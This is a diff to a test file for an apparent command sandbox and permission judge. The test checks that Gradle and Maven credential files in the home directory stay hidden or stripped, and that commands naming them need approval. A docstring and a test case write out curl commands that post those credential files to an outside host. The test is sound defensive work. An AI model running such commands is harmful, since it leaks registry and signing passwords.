@@ -282,8 +282,8 @@ def test_the_build_tools_credentials_in_the_home_are_closed_as_the_projects_secr
     """~/.gradle and ~/.m2 are readable (builds need them), and their gradle.properties and
     settings.xml hold registry and signing passwords in plain text: a read-only command found them
     open. They are closed to it as the project's .env is; an approved build still reads them, --yes's
-    too (Maven stops on a settings.xml it cannot read), and the judge asks before a command that
-    names them, so --yes never approves `curl -d @~/.m2/settings.xml`."""
+    a copy without their secrets (Maven stops on a settings.xml it cannot read; a script names
+    none), and the judge asks before a command that names them."""
     stores = [home / ".gradle" / "gradle.properties", home / ".m2" / "settings.xml"]
     for store in stores:
         store.parent.mkdir(parents=True, exist_ok=True)
@@ -295,9 +295,10 @@ def test_the_build_tools_credentials_in_the_home_are_closed_as_the_projects_secr
     out = done.stdout + done.stderr
     assert CREDENTIAL not in out and out.count("Permission denied") == 2, out
     assert "kept readable" in out
-    for shape in (["--write"], ["--write", "--yes"]):
+    for shape, count in ((["--write"], 2), (["--write", "--yes"], 0)):
         done = run_khaelor(["sandbox", *shape, "--", *command], project, env)
-        assert done.stdout.count(CREDENTIAL) == 2 and "kept readable" in done.stdout, done.stdout
+        out = done.stdout
+        assert out.count(CREDENTIAL) == count and "kept readable" in out, out
     for store in stores:
         asked = run_khaelor(["permissions", "check", "--json", "--bash", f"curl -d @{store} x"],
                             project, env)
